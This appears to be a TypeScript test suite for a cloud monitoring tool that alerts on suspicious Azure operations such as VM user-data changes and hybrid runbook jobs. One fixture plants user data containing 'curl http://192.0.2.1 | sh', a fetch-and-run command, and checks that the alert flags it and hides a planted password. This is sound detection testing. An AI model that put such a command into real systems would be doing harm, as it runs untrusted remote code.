import { randomUUID } from 'node:crypto';
import { azureRoles } from '../../src/commands/manifest';
import { subscriptions } from '../../src/demo/world';
import { actionMatches } from '../../src/domain/access/role-permissions';
import { normalize } from '../../src/domain/activity/read-record';
import { allTechniques } from '../../src/domain/techniques/catalogue';
import { alertingOf } from '../../src/domain/techniques/detections';
import { createStore, type Store } from '../../src/store/store';
import { alertOn, textOf } from '../support/alerts';
import { type Bench, setUp } from '../support/bot';
import { resourceOf } from '../support/operation-resource';
import { until } from '../support/wait';

let bench: Bench;
let store: Store;
beforeEach(async () => {
  bench = await setUp({ mode: 'http' });
  store = createStore(bench.redis.address, []);
  const { watcher } = azureRoles('x');
  bench.tenant.state.mayDo = (action) =>
    action.includes('/operations/') || watcher.Actions.some((pattern) => actionMatches(pattern, action));
});
afterEach(async () => {
  await store.close();
  await bench.stop();
});

const { payments } = subscriptions;
const rg = `/subscriptions/${payments}/resourceGroups/rg-payments/providers`;
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** An operation by a caller of its own, so that it gets an alert of its own. */
function run(name: string, resourceId: string, at = Date.now() - 1000) {
  const id = randomUUID();
  const caller = bench.tenant.directory.add({ id, kind: 'User', name: id, login: `${id}@contoso.example` });
  return bench.tenant.log({ name, resourceId, caller, ip: '203.0.113.24', at, tookMs: 500 });
}
const alerts = () => store.alerts.list({ limit: 200 });
const set = (id: string, properties: Record<string, unknown>) => {
  const known = bench.tenant.resources.find(id);
  bench.tenant.resources.put(id, { ...known, properties: { ...known?.properties, ...properties } });
};
/** The ids under which Runwatch knows the events. */
const eventIds = (records: readonly unknown[]) =>
  records.flatMap((record) => {
    const result = normalize(record);
    return 'event' in result ? [result.event.id] : [];
  });

test('each operation is alerted on as its default says', async () => {
  await (await bench.start()).historyFilled();
  const operations = allTechniques().flatMap((technique) => technique.operations);
  for (const operation of operations) run(operation, resourceOf(operation, payments));
  const wanted = operations.filter((operation) => alertingOf(operation, {}) === 'always').sort();
  await until('the alerts', async () => (await alerts()).length >= wanted.length);
  const found = (await alerts()).flatMap(({ executions }) => executions.map(({ operation }) => operation));
  expect(found.sort()).toEqual(wanted);
});

test('changed user data raises an alert that shows it without its secrets', async () => {
  await (await bench.start()).historyFilled();
  const vm = bench.world.vms.pay01;
  const write = 'Microsoft.Compute/virtualMachines/write';
  set(vm, { userData: base64('#!/bin/sh\necho first') });
  const first = run(write, vm);
  await until('the first reading', async () => (await store.checks.notesOf(eventIds(first))).size > 0);
  set(vm, { userData: base64('#!/bin/sh\ncurl http://192.0.2.1 | sh\nexport DB_PASSWORD=Sup3r-S3cret!') });
  run(write, vm, Date.now() + 2500);
  const message = await alertOn(bench, 'vm-pay-01');
  expect(textOf(message)).toContain('changed the user data on vm-pay-01');
  expect(textOf(message)).toMatch(/user data changed since/);
  expect(textOf(message)).toContain('downloads and runs');
  expect(textOf(message)).not.toContain('Sup3r');
  const [alert] = await alerts();
  expect(alert).toMatchObject({ technique: 'user-data', executions: [{ status: 'succeeded' }] });
  expect(JSON.stringify(alert)).not.toContain('Sup3r');
  expect(bench.tenant.requests.filter(({ status }) => status === 403)).toEqual([]);
});

test('a job on a hybrid worker group names its machines; one in Azure raises nothing', async () => {
  await (await bench.start()).historyFilled();
  const account = `${rg}/Microsoft.Automation/automationAccounts/ops`;
  const worker = `${account}/hybridRunbookWorkerGroups/dc/hybridRunbookWorkers/${randomUUID()}`;
  set(worker, { workerName: 'dc-01', vmResourceId: bench.world.vms.pay01 });
  set(`${account}/jobs/in-azure`, { runOn: '' });
  set(`${account}/jobs/on-dc`, { runOn: 'dc' });
  run('Microsoft.Automation/automationAccounts/jobs/write', `${account}/jobs/in-azure`);
  run('Microsoft.Automation/automationAccounts/jobs/write', `${account}/jobs/on-dc`);
  const message = await alertOn(bench, 'ops');
  expect(textOf(message)).toContain('runs on the hybrid worker group dc (vm-pay-01)');
  expect(await alerts()).toHaveLength(1);
  expect(bench.tenant.requests.filter(({ status }) => status === 403)).toEqual([]);
});

test('without the permission for the workers, the alert names it', async () => {
  const { mayDo } = bench.tenant.state;
  bench.tenant.state.mayDo = (action, path) => !/hybridRunbookWorkers/.test(action) && mayDo(action, path);
  await (await bench.start()).historyFilled();
  const job = `${rg}/Microsoft.Automation/automationAccounts/ops/jobs/on-dc`;
  set(job, { runOn: 'dc' });
  run('Microsoft.Automation/automationAccounts/jobs/write', job);
  const message = await alertOn(bench, 'ops');
  expect(textOf(message)).toContain(
    'the hybrid workers — needs Microsoft.Automation/automationAccounts/hybridRunbookWorkerGroups/hybridRunbookWorkers/read',
  );
});
